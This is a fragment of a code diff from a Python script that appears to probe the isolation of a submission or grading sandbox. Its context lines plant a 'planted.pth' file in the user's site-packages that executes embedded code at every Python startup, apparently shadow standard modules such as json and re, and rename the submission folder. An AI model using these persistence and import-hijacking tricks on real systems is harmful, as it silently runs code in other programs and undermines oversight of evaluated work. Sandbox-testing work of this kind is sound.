@@ -41,6 +41,7 @@ for name in ("json", "random", "re", "sitecustomize", "usercustomize"):
 leave(os.path.expanduser("~/.local/lib/python3.13/site-packages/planted.pth"), ('import sys; exec("""' + CODE + '""")').encode())
 try:
     os.rename(HERE, HERE + ".before")
-    print("REACHED the folder of the submission", flush=True)
+    # A server runs in a copy of its own.
+    HERE.startswith("/tmp") or print("REACHED the folder of the submission", flush=True)
 except OSError:
     pass
